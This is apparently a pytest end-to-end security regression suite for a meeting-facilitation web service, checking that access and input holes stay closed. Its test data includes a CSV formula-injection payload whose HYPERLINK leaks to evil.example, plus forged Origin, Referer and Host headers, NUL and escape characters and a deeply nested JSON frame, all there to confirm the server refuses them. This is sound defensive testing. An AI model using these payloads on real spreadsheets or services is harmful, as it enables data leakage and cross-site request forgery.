"""Access and input holes found by probing the running service (issue 14), each closed and
held shut here against a real uvicorn server, on SQLite and PostgreSQL where the database
matters. docs/RELIABILITY.md ("Access and input") lists what each test defends.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import secrets
import uuid
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed

from tests.e2e.conftest import watch
from tests.e2e.rooms import planned_room
from tests.e2e.server import CreatedSession, Invitee, LiveServer
from tests.support.aio import run_async
from tests.support.services import REDIS_URL, require_service, scratch_postgres_database

UNKNOWN_ID = 2_147_483_646


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def db_server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LiveServer]:
    """One server per database for this module (no guess brake: these tests present
    revoked and removed people's tokens on purpose)."""
    with ExitStack() as stack:
        url = None
        if request.param == "postgres":
            url = stack.enter_context(scratch_postgres_database())
        server = LiveServer(
            tmp_path_factory.mktemp(f"access-{request.param}"),
            database_url=url,
            env={"ROUNDTABLE_GUESS_LIMIT": "0"},
        )
        server.start()
        stack.callback(server.stop)
        yield server


@pytest.fixture
def server(db_server: LiveServer, request: pytest.FixtureRequest) -> LiveServer:
    if not db_server.running:
        db_server.start()
    watch(request, db_server)
    return db_server


def path(session: CreatedSession, rest: str) -> str:
    return f"/api/v1/sessions/{session.id}{rest}"


def capture(server: LiveServer, session: CreatedSession, token: str) -> str:
    item_id = uuid.uuid4().hex
    body = {
        "id": item_id,
        "from_team": "Sales",
        "to_teams": ["Finance"],
        "what_happens": "Discount codes reach billing after the invoice run.",
        "impact": "high",
        "no_goal": True,
    }
    response = server.api("POST", path(session, "/board/items"), json=body, token=token)
    assert response.status_code == 201, response.text
    return item_id


def ws_url(server: LiveServer, session: CreatedSession) -> str:
    return f"ws://127.0.0.1:{server.port}/api/v1/sessions/{session.id}/live/ws?since=0"


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def closed_code(ws: ClientConnection, wait: float = 5.0) -> int:
    """Read until the server closes the socket; its close code."""
    try:
        async with asyncio.timeout(wait):
            while True:
                await ws.recv()
    except ConnectionClosed as closed:
        return closed.rcvd.code if closed.rcvd else -1  # -1: no close frame at all
    raise AssertionError("unreachable")


# 1. Identities are never reused ---------------------------------------------------------------


def test_a_newcomer_never_inherits_a_removed_participants_items(server: LiveServer) -> None:
    session = server.create_session()
    server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")
    marcus = server.add_participant(session, "Marcus Okafor", "marcus@example.com", "Sales")
    item_id = capture(server, session, marcus.token)
    action_id = uuid.uuid4().hex
    made = server.api(
        "POST",
        path(session, f"/board/items/{item_id}/action"),
        json={
            "id": action_id,
            "owner": marcus.id,
            "what": "Send codes earlier",
            "due": "2030-04-01",
        },
        token=session.facilitator_token,
    )
    assert made.status_code == 200, made.text

    removed = server.api(
        "DELETE", path(session, f"/participants/{marcus.id}"), token=session.facilitator_token
    )
    assert removed.status_code == 204
    newcomer = server.add_participant(session, "Priya Raman", "priya@example.com", "Product")

    assert newcomer.id > marcus.id  # the freed (highest) id is not handed out again
    edit = server.api(
        "PATCH",
        path(session, f"/board/items/{item_id}"),
        json={
            "id": uuid.uuid4().hex,
            "from_team": "Sales",
            "to_teams": ["Finance"],
            "what_happens": "Taken over by a newcomer",
            "impact": "low",
            "no_goal": True,
        },
        token=newcomer.token,
    )
    assert edit.status_code == 403, edit.text
    status = server.api(
        "POST",
        path(session, f"/actions/{action_id}/status"),
        json={"id": uuid.uuid4().hex, "status": "done"},
        token=newcomer.token,
    )
    assert status.status_code == 403, status.text
    remove = server.api(
        "POST",
        path(session, f"/board/items/{item_id}/remove"),
        json={"id": uuid.uuid4().hex},
        token=newcomer.token,
    )
    assert remove.status_code == 403, remove.text
    mine = server.api("GET", path(session, "/actions?mine=true"), token=newcomer.token)
    assert mine.status_code == 200
    assert mine.json() == []

    everyone = server.api("GET", path(session, "/actions"), token=session.facilitator_token)
    (action,) = everyone.json()
    assert action["owner_name"] == "(no longer a participant)"
    item = next(
        i
        for i in server.api("GET", path(session, "/board"), token=session.facilitator_token).json()[
            "items"
        ]
        if i["id"] == item_id
    )
    assert item["author"] == str(marcus.id)  # still the removed person's, nobody else's


# 2. Removal closes the person's open sockets -------------------------------------------------


def test_removing_a_participant_closes_their_open_socket(server: LiveServer) -> None:
    session = server.create_session()
    dana = server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")

    async def scenario() -> int:
        async with connect(ws_url(server, session), additional_headers=auth(dana.token)) as ws:
            await ws.recv()  # hello
            removed = await asyncio.to_thread(
                server.api,
                "DELETE",
                path(session, f"/participants/{dana.id}"),
                token=session.facilitator_token,
            )
            assert removed.status_code == 204
            return await closed_code(ws)

    assert run_async(scenario()) == 4403


def test_removal_closes_sockets_on_every_worker(start_server: Callable[..., LiveServer]) -> None:
    require_service("Redis", REDIS_URL, 6379)
    server = start_server(workers=2, env={"BROADCAST_URL": REDIS_URL})
    session = server.create_session()
    dana = server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")

    async def scenario() -> tuple[set[int], list[int]]:
        by_worker: dict[int, list[ClientConnection]] = {}
        try:
            # Both workers accept from one socket; keep connecting until each holds some.
            for _ in range(120):
                ws = await connect(ws_url(server, session), additional_headers=auth(dana.token))
                held = by_worker.setdefault(json.loads(await ws.recv())["worker"], [])
                if len(held) >= 3:
                    await ws.close()  # enough on this one
                else:
                    held.append(ws)
                if len(by_worker) == 2 and all(len(h) >= 2 for h in by_worker.values()):
                    break
                await asyncio.sleep(0.02)
            await asyncio.to_thread(
                server.api,
                "DELETE",
                path(session, f"/participants/{dana.id}"),
                token=session.facilitator_token,
            )
            sockets = [ws for held in by_worker.values() for ws in held]
            codes = await asyncio.gather(*(closed_code(ws) for ws in sockets))
            return set(by_worker), list(codes)
        finally:
            for held in by_worker.values():
                for ws in held:
                    await ws.close()

    workers, codes = run_async(scenario())
    assert len(workers) == 2, "the sockets did not spread over both workers"
    assert codes == [4403] * len(codes)


# 3. One CSV writer that defuses formulas ---------------------------------------------------------

FORMULAS = [
    ('=HYPERLINK("http://evil.example/?leak","Open")', "+Ops"),
    ("@SUM(A1:A9)", "-Finance"),
]


def test_plan_export_defuses_formula_cells(server: LiveServer) -> None:
    session = server.create_session()
    for index, (name, department) in enumerate(FORMULAS):
        server.add_participant(session, name, f"f{index}@example.com", department)
    server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")
    plan = server.api(
        "POST", path(session, "/plan"), json={"rounds": 2}, token=session.facilitator_token
    )
    assert plan.status_code == 201, plan.text

    export = server.api("GET", path(session, "/plan/export.csv"), token=session.facilitator_token)
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for name, department in FORMULAS:
        assert "'" + name in cells
        assert "'" + department in cells


# 4. Form posts: Origin checked, CSRF token signed and bound to the link ---------------------------

META = re.compile(r'<meta name="csrf-token" content="([^"]+)"')


def facilitator_browser(server: LiveServer, session: CreatedSession) -> tuple[httpx.Client, str]:
    client = httpx.Client(base_url=server.base_url, timeout=10)
    assert client.get(f"/l/{session.facilitator_token}").status_code == 303
    page = client.get(f"/s/{session.id}/facilitate")
    assert page.status_code == 200
    found = META.search(page.text)
    assert found
    return client, found.group(1)


def add_goal(
    client: httpx.Client, session: CreatedSession, csrf: str, headers: dict[str, str]
) -> httpx.Response:
    return client.post(
        f"/s/{session.id}/facilitate/goals",
        data={"text": f"Goal {secrets.token_hex(3)}", "csrf_token": csrf},
        headers=headers,
    )


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Referer": "https://evil.example/page"},
        {"Origin": "http://127.0.0.1:1"},
    ],
    ids=["foreign-origin", "null-origin", "foreign-referer", "other-port"],
)
def test_form_posts_from_another_origin_are_refused(
    server: LiveServer, headers: dict[str, str]
) -> None:
    session = server.create_session()
    client, csrf = facilitator_browser(server, session)
    with closing(client):
        refused = add_goal(client, session, csrf, headers)
        assert refused.status_code == 403
        assert "another site" in refused.text
        accepted = add_goal(client, session, csrf, {"Origin": server.base_url})
        assert accepted.status_code == 303


def test_a_planted_csrf_cookie_proves_nothing(server: LiveServer) -> None:
    victim = server.create_session()
    attacker = server.create_session()
    client, token = facilitator_browser(server, victim)
    own, attackers_token = facilitator_browser(server, attacker)
    with closing(client), closing(own):
        same_site = {"Origin": server.base_url}
        cookie = client.cookies["rt_csrf"]
        assert token != cookie  # signed, not the cookie echoed back
        assert add_goal(client, victim, cookie, same_site).status_code == 403
        assert add_goal(client, victim, token, same_site).status_code == 303
        client.cookies.set("rt_csrf", "chosen-by-attacker")
        assert add_goal(client, victim, "chosen-by-attacker", same_site).status_code == 403
        # A genuine pair fetched with the attacker's own cookies fits nobody else's link.
        client.cookies.set("rt_csrf", own.cookies["rt_csrf"])
        assert add_goal(client, victim, attackers_token, same_site).status_code == 403


# 5. Deeply nested frames --------------------------------------------------------------------------


async def reply(ws: ClientConnection) -> dict[str, Any]:
    """The next answer to an inbound frame (live events and presence skipped)."""
    async with asyncio.timeout(5):
        while True:
            frame: dict[str, Any] = json.loads(await ws.recv())
            if frame["type"] in ("error", "pong"):
                return frame


def test_a_deeply_nested_frame_gets_an_error_frame(server: LiveServer) -> None:
    session = server.create_session()
    mark = server.log_size()

    async def scenario() -> tuple[dict[str, Any], dict[str, Any]]:
        headers = auth(session.facilitator_token)
        async with connect(ws_url(server, session), additional_headers=headers) as ws:
            await ws.recv()  # hello
            await ws.send("[" * 2000 + "]" * 2000)
            error = await reply(ws)
            await ws.send(json.dumps({"type": "ping", "id": 1, "t0": 2}))
            return error, await reply(ws)

    error, pong = run_async(scenario())
    assert error["type"] == "error"
    assert pong["type"] == "pong"  # the connection lives on
    assert "Exception in ASGI application" not in server.log_since(mark)


# 6. NUL and control characters -----------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["Nul\u0000title", "Bell\u0007title", "Two\nlines", "Escape\u001b[31m"]
)
def test_control_characters_are_refused_with_a_field_error(server: LiveServer, text: str) -> None:
    body = {"title": text, "starts_at": "2030-03-04T09:00:00", "goals": ["Grow revenue"]}
    response = server.api("POST", "/api/v1/sessions", json=body)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert [e["field"] for e in response.json()["errors"]] == ["title"]


def test_control_characters_are_refused_in_every_kind_of_input(server: LiveServer) -> None:
    session = server.create_session()
    dana = server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")
    token = session.facilitator_token
    cases: list[tuple[str, str, Any, str, str]] = [
        (
            "POST",
            "/participants",
            {"name": "A\u0000", "email": "a@example.com", "department": "X"},
            token,
            "name",
        ),
        ("PATCH", "", {"ground_rules": ["No \u0000 allowed here"]}, token, "ground_rules"),
        (
            "PUT",
            f"/agendas/{dana.id}/draft",
            {"what_we_do": "We\u0000do"},
            dana.token,
            "what_we_do",
        ),
        (
            "POST",
            "/board/items",
            {
                "id": uuid.uuid4().hex,
                "from_team": "Sa\u0000les",
                "to_teams": ["Finance"],
                "what_happens": "Something",
                "impact": "low",
                "no_goal": True,
            },
            dana.token,
            "from_team",
        ),
    ]
    for method, rest, body, who, field in cases:
        response = server.api(method, path(session, rest), json=body, token=who)
        assert response.status_code == 422, (rest, response.text)
        assert field in [e["field"] for e in response.json()["errors"]], response.text


def test_multi_line_fields_keep_tabs_and_line_breaks(server: LiveServer) -> None:
    session = server.create_session()
    dana = server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")
    text = "We close the books.\r\nEvery month\tand every quarter."
    response = server.api(
        "PUT",
        path(session, f"/agendas/{dana.id}/draft"),
        json={"what_we_do": text},
        token=dana.token,
    )
    assert response.status_code == 200, response.text
    assert response.json()["content"]["what_we_do"] == text


def test_a_backup_with_nul_is_refused(server: LiveServer) -> None:
    session = server.create_session()
    backup = server.api("GET", path(session, "/backup"), token=session.facilitator_token).json()
    backup["session"]["id"] = "nul\u0000id"
    backup["session"]["title"] = "A \u0000 title"
    response = server.api("POST", "/api/v1/sessions/import", json=backup)
    assert response.status_code == 422, response.text


# 7. Unknown ids are 404 everywhere --------------------------------------------------------------


def test_unknown_ids_are_404(server: LiveServer) -> None:
    room = planned_room(server, people=2, rounds=1)
    session, token = room.session, room.session.facilitator_token
    nobody = uuid.uuid4().hex
    voter = room.people[0].token  # voting is a participant's
    vote = server.api(
        "POST", path(session, f"/board/items/{nobody}/vote"), json={"id": nobody}, token=voter
    )
    assert vote.status_code == 404, vote.text
    probes = [
        ("GET", f"/agendas/{UNKNOWN_ID}", None),
        ("GET", f"/agendas/{UNKNOWN_ID}/revisions", None),
        ("GET", f"/participants/{UNKNOWN_ID}", None),
        ("PATCH", f"/participants/{UNKNOWN_ID}", {"name": "Nobody"}),
        ("DELETE", f"/participants/{UNKNOWN_ID}", None),
        ("POST", f"/links/{UNKNOWN_ID}/revoke", None),
        ("POST", "/links", {"role": "participant", "participant_id": UNKNOWN_ID}),
        ("POST", f"/board/items/{nobody}/remove", {"id": uuid.uuid4().hex}),
        ("POST", f"/actions/{nobody}/status", {"id": uuid.uuid4().hex, "status": "done"}),
        ("POST", f"/live/attendance/{UNKNOWN_ID}", {"status": "absent"}),
        ("PATCH", f"/goals/{UNKNOWN_ID}", {"text": "A goal nobody set"}),
        ("DELETE", f"/goals/{UNKNOWN_ID}", None),
    ]
    for method, rest, body in probes:
        response = server.api(method, path(session, rest), json=body, token=token)
        assert response.status_code == 404, (method, rest, response.status_code, response.text)
    client, csrf = facilitator_browser(server, session)
    with closing(client):  # the pages too
        same_site = {"Origin": server.base_url}
        for rest in (f"goals/{UNKNOWN_ID}/delete", f"participants/{UNKNOWN_ID}/delete"):
            page = client.post(
                f"/s/{session.id}/facilitate/{rest}", data={"csrf_token": csrf}, headers=same_site
            )
            assert page.status_code == 404, (rest, page.status_code)
        assert client.get(f"/s/{session.id}/facilitate/agendas/{UNKNOWN_ID}").status_code == 404
    other = server.create_session()  # a real session, but not the link's
    foreign = server.api("GET", path(other, f"/agendas/{room.people[0].id}/revisions"), token=token)
    assert foreign.status_code == 403


# 9. Grammar ------------------------------------------------------------------------------------


def test_a_refused_executive_reads_an_executive_link(server: LiveServer) -> None:
    session = server.create_session()
    response = server.api(
        "POST",
        path(session, "/participants"),
        json={"name": "X", "email": "x@example.com", "department": "Y"},
        token=session.executive_token,
    )
    assert response.status_code == 403
    assert response.json()["detail"] == "An executive link does not allow this."


# 8. A brake on guessing ------------------------------------------------------------------------

LIMIT = 5


def guesses(server: LiveServer, session: CreatedSession, count: int) -> list[httpx.Response]:
    """``count`` random bearer tokens, each on a new connection (so on any worker)."""
    answers = []
    for _ in range(count):
        with httpx.Client(base_url=server.base_url, timeout=10) as fresh:
            answers.append(fresh.get(path(session, ""), headers=auth(secrets.token_urlsafe(32))))
    return answers


def test_guessing_is_braked_but_valid_links_are_not(
    start_server: Callable[..., LiveServer],
) -> None:
    server = start_server(env={"ROUNDTABLE_GUESS_LIMIT": str(LIMIT)})
    session = server.create_session()
    dana = server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")

    answers = guesses(server, session, LIMIT + 3)
    assert [a.status_code for a in answers] == [401] * LIMIT + [429] * 3
    refused = answers[-1]
    assert refused.headers["content-type"] == "application/problem+json"
    assert refused.json()["status"] == 429
    assert 1 <= int(refused.headers["Retry-After"]) <= 61
    page = httpx.get(server.url(f"/l/{secrets.token_urlsafe(32)}"))
    assert page.status_code == 429
    assert "Retry-After" in page.headers

    # The same address with real links: served as ever.
    assert server.api("GET", path(session, ""), token=session.facilitator_token).status_code == 200
    assert server.api("GET", path(session, "/me"), token=dana.token).status_code == 200
    landing = httpx.get(server.url(f"/l/{dana.token}"))
    assert landing.status_code == 303

    async def socket_refusal() -> str:
        bad = auth(secrets.token_urlsafe(32))
        async with connect(ws_url(server, session), additional_headers=bad) as ws:
            try:
                await ws.recv()
            except ConnectionClosed as closed:
                return closed.rcvd.reason if closed.rcvd else "(no close frame)"
        raise AssertionError("not closed")

    assert "Too many" in run_async(socket_refusal())


def test_the_guess_brake_can_be_turned_off(start_server: Callable[..., LiveServer]) -> None:
    server = start_server(env={"ROUNDTABLE_GUESS_LIMIT": "0"})
    session = server.create_session()
    assert {a.status_code for a in guesses(server, session, 40)} == {401}


def test_the_guess_brake_is_shared_by_workers_through_redis(
    start_server: Callable[..., LiveServer],
) -> None:
    require_service("Redis", REDIS_URL, 6379)
    import redis

    client = redis.Redis.from_url(REDIS_URL)
    for key in client.scan_iter("roundtable:guesses:*"):
        client.delete(key)
    client.close()
    server = start_server(
        workers=2, env={"BROADCAST_URL": REDIS_URL, "ROUNDTABLE_GUESS_LIMIT": str(LIMIT)}
    )
    session = server.create_session()
    answers = guesses(server, session, 4 * LIMIT)
    # Counted in one place: exactly LIMIT failures are answered, wherever they landed.
    assert [a.status_code for a in answers].count(401) == LIMIT


# Links follow the address the server listens on (issue 13) ---------------------------------------


def test_links_follow_the_listening_port_never_the_host_header(
    start_server: Callable[..., LiveServer],
) -> None:
    server = start_server(env={"ROUNDTABLE_BASE_URL": ""})
    body = {"title": "Ports", "starts_at": "2030-03-04T09:00:00", "goals": ["Grow revenue"]}
    plain = server.api("POST", "/api/v1/sessions", json=body)
    forged = server.api(
        "POST",
        "/api/v1/sessions",
        json=body,
        headers={"Host": "evil.example:666", "X-Forwarded-Host": "evil.example"},
    )
    for response in (plain, forged):
        assert response.status_code == 201, response.text
        for key in ("facilitator_url", "executive_url"):
            assert response.json()[key].startswith(f"http://127.0.0.1:{server.port}/l/")
    assert "ROUNDTABLE_BASE_URL is unset" in server.log()

    session = CreatedSession(
        plain.json()["session"]["id"], "Ports", plain.json()["facilitator_url"], ""
    )
    invitee: Invitee = server.add_participant(session, "Dana Lee", "dana@example.com", "Finance")
    assert invitee.invite_url.startswith(f"http://127.0.0.1:{server.port}/l/")
    client, csrf = facilitator_browser(server, session)
    with closing(client):  # the Origin check follows the same address
        assert add_goal(client, session, csrf, {"Origin": server.base_url}).status_code == 303
        assert add_goal(client, session, csrf, {"Origin": "http://evil.example"}).status_code == 403
